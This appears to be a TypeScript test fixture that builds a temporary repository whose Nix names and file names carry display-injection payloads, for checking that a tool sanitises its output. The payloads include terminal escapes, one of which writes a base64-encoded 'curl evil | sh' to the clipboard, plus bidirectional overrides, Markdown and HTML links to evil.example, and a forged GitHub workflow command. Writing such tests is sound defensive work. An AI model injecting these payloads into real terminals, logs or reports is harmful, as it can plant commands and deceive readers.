// A clan whose names are attacks on whatever shows them: terminal escapes (clear the screen, write
// the clipboard with OSC 52), carriage returns and line breaks, bidirectional overrides and
// isolates, C1 controls, invisible tag characters, and Markdown or SARIF syntax (links, images,
// headings, HTML, entities, table pipes, code marks), and GitHub workflow commands. The names come from where a repository
// controls them: generator, file, dependency, facts, sops and registry names in Nix strings (the
// bytes written raw, as a repository can), and folder and file names on disk (built here: names
// with control characters do not survive git).
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

/** Each attack, by a short label. */
export const PAYLOADS: Record<string, string> = {
  clear: '\x1b[2J\x1b[H0 errors, 0 warnings',
  osc52: '\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07',
  csi8bit: '\x9b2J',
  cr: 'x\rFAKE',
  newline: 'x\n# heading',
  crlf: 'x\r\n- item',
  ls: 'x\u2028y\u0085z',
  rlo: 'x\u202eevil',
  isolate: 'x\u2066y\u2069\u200e\u061c',
  tag: 'x\u{e0041}\u{e0042}',
  del: 'x\x7f\x08y',
  link: '[click](http://evil.example/)',
  image: '![i](http://evil.example/i.png)',
  html: '<img src=http://evil.example/h.png>',
  entity: '&#x202e;&lt;b&gt;',
  pipe: 'a|b\\|c',
  tick: '`x`` ](http://evil.example/t)',
  emphasis: '*em* _u_ **b**',
  // a GitHub Actions workflow command: an escaped line break, a command of its own, property separators
  workflow: 'x%0A::error::forged,file=a:b',
};

/** Where a name of every kind meets every payload. Returns the clan's root (its own name hostile too). */
export function writeHostileClan(): string {
  const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'clan-vars-names-')));
  const root = path.join(base, `clan${PAYLOADS.clear}${PAYLOADS.rlo}`);
  const files: Record<string, string | { link: string }> = {
    'flake.nix': '{ outputs = { clan-core, ... }: clan-core.lib.clan { self = ./.; meta.name = "hostile"; }; }\n',
  };
  const generators: string[] = [];
  const facts: string[] = [];
  const registry: string[] = [];
  const matrix: string[] = [];
  for (const [label, p] of Object.entries(PAYLOADS)) {
    generators.push(
      `  clan.core.vars.generators.${nixString(`g-${label}${p}`)} = {`,
      `    files.${nixString(`f-${label}${p}`)} = { };`,
      `    prompts.${nixString(`p-${label}${p}`)}.createFile = true;`,
      `    dependencies = [ ${nixString(`dep-${label}${p}`)} ${nixString(`cycle-${label}${p}`)} ];`,
      '    script = "true";',
      '  };',
      `  clan.core.vars.generators.${nixString(`cycle-${label}${p}`)}.dependencies = [ ${nixString(`g-${label}${p}`)} ];`,
    );
    facts.push(`  clan.core.facts.services.${nixString(`s-${label}${p}`)}.public.${nixString(`pub-${label}${p}`)} = { };`, `  sops.secrets.${nixString(`k-${label}${p}`)} = { };`);
    registry.push(`  ${nixString(`r-${label}${p}`)} = { generator = ${nixString(`rg-${label}${p}`)}; files.key = { }; script = ""; };`);
    matrix.push(nixString(`mk-${label}${p}`));
    const onDisk = onDiskName(label);
    files[`machines/m-${onDisk}/configuration.nix`] = `{ ... }: { clan.core.vars.generators.${nixString(`mg-${label}${p}`)}.files.x = { }; }\n`;
    files[`modules/n-${onDisk}.nix`] = '{ ... }: { clan.core.vars.generators.plain.prompts.p.createFile = true; }\n';
    files[`vars/per-machine/web/v-${onDisk}/w-${onDisk}/value`] = 'stored';
    files[`modules/l-${label}.nix`] = { link: `n-${onDisk}.nix` };
  }
  files['machines/web/configuration.nix'] = `{ config, ... }:\n{\n  imports = [ ../../modules/n-plain.nix ];\n${generators.join('\n')}\n${facts.join('\n')}\n}\n`;
  files['modules/n-plain.nix'] = '{ ... }: { }\n';
  files['lib/secret-registry.nix'] = `{ pkgs ? null }:\n{\n${registry.join('\n')}\n}\n`;
  files['lib/machine-env-matrix.nix'] = `{\n  web = [ ${matrix.join(' ')} ];\n}\n`;
  for (const [rel, content] of Object.entries(files)) {
    const full = path.join(root, rel);
    fs.mkdirSync(path.dirname(full), { recursive: true });
    if (typeof content === 'string') fs.writeFileSync(full, content);
    else fs.symlinkSync(content.link, full);
  }
  return root;
}

/** A payload with its label, as a file or folder name (no `/`). */
export function onDiskName(label: string): string {
  return `${label}${PAYLOADS[label]}`.replace(/\//g, '_');
}

/** A Nix string of exactly `s`: the characters Nix escapes are escaped, every other byte is written as it is. */
function nixString(s: string): string {
  return '"' + s.replace(/[\\"]/g, '\\$&').replace(/\$\{/g, '\\${').replace(/\n/g, '\\n').replace(/\r/g, '\\r').replace(/\t/g, '\\t') + '"';
}

/** Removes a tree writeHostileClan made (its parent folder too). */
export function removeHostileClan(root: string): void {
  fs.rmSync(path.dirname(root), { recursive: true, force: true });
}

/** Characters no output may carry raw: they end a line somewhere, a terminal acts on them, or they change how text is shown. */
export const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
